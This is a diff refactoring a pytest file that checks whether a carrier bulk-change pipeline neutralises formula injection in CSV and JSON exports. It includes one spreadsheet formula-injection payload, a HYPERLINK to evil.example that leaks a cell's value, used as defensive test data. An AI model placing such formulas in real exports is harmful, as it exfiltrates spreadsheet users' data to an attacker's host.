@@ -22,7 +22,6 @@ import csv
 import io
 import json
 from collections.abc import Iterator
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -37,7 +36,10 @@ from bulkchange_pipeline.intake.app import create_app
 from bulkchange_pipeline.intake.cli import main as cli
 from bulkchange_pipeline.simulators.jasper import _json
 from bulkchange_pipeline.store.api_keys import create_api_key
-from bulkchange_pipeline.store.bulk_changes import count_rows_by_status, iter_device_results
+from bulkchange_pipeline.store.bulk_changes import (
+    count_rows_by_status,
+    iter_device_results,
+)
 from bulkchange_pipeline.store.device_changes import RowResult, record_results
 from bulkchange_pipeline.store.schema import device
 
@@ -53,7 +55,7 @@ CARRIER_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 class HostileJasper(HoldingJasper):
     """A carrier whose refusal text is itself a formula (text from carriers ends up in exports)."""
 
-    refuse: set[str] = set()
+    refuse: frozenset[str] = frozenset()
 
     async def _put_device(self, request: Request, account: str) -> Response:
         if request.path_params["iccid"] in self.refuse:
@@ -76,7 +78,7 @@ def world(engine: sa.Engine, dagster_instance, carrier_env) -> Iterator[dict[str
         rival = make_account(engine, handle.base_url, name="RIVAL", tenant_name="rival")
         rival_devices = add_devices(engine, rival, [iccid(500), iccid(501)])
         sim.seed_devices({"iccid": d["iccid"], "status": "ACTIVATED"} for d in devices + rival_devices)
-        sim.refuse = {devices[11]["iccid"]}
+        sim.refuse = frozenset({devices[11]["iccid"]})
         yield {"sim": sim, "ids": ids, "devices": devices, "rival": rival_devices, "instance": dagster_instance}
 
 
@@ -189,7 +191,7 @@ def test_cli_mixed_hostile_csv_valid_rows_processed_export_neutralised(engine, d
 
 def _cli_case(request: pytest.FixtureRequest, db_url: str, bug: str | None) -> None:
     backend = "postgresql" if db_url.startswith("postgresql") else "sqlite"
-    if bug and (bug.startswith(backend) or bug.startswith("both")):
+    if bug and bug.startswith((backend, "both")):
         request.applymarker(pytest.mark.xfail(strict=True, reason=bug))
 
 
@@ -287,7 +289,7 @@ def test_api_mixed_hostile_json_valid_rows_processed_download_neutralised(engine
 
 def test_api_csv_upload_with_formula_identifiers_processes_the_rest(engine, world, client):
     c, auth = client
-    rows, applied, reasons = _corpus(world)
+    rows, applied, _ = _corpus(world)
     buf = io.StringIO()
     csv.writer(buf).writerows([("iccid", "status"), *rows])
     r = c.post("/bulk-changes/csv", headers=auth, files={"file": ("hostile.csv", buf.getvalue().encode(), "text/csv")},
